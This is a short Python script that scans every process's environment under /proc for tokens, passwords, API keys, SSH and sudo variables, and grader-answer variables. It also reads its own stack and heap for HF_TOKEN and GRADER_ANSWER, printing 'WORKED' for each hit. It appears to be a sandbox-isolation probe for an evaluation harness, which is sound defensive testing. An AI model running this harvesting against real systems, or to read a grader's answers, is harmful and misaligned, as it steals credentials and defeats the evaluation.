"""Looks for tokens in the environment of every process, and in what is left of its own start."""

import os
from pathlib import Path

WORDS = (
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "API_KEY",
    "ANSWER",
    "CREDENTIAL",
    "SSH_",
    "SUDO_",
    "GRADER_",
)
OURS = ("TOKENIZERS_PARALLELISM", "GRADER_EVENTS", "GRADER_PROFILE", "GRADER_HANDED_IN")
texts = {"self": "\0".join(f"{k}={v}" for k, v in os.environ.items())}
for pid in [n for n in os.listdir("/proc") if n.isdigit()]:
    try:
        texts[pid] = os.fsdecode(Path(f"/proc/{pid}/environ").read_bytes())
    except OSError:
        continue
for pid, text in texts.items():
    for word in text.split("\0"):
        name = word.partition("=")[0]
        if name not in OURS and any(w in name.upper() for w in WORDS):
            print(f"WORKED: process {pid} has {word}", flush=True)
# What lies behind the environment on our own stack, and in our heap.
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            span = line.split()[0]
            if "[stack]" in line or "[heap]" in line:
                start, end = (int(x, 16) for x in span.split("-"))
                memory.seek(start)
                text = memory.read(min(end - start, 64 << 20))
                for word in (b"HF_" + b"TOKEN=", b"GRADER_" + b"ANSWER"):
                    at = text.find(word)
                    if at >= 0:
                        print(f"WORKED: own memory has {text[at : at + 60]!r}", flush=True)
except (OSError, ValueError):
    pass
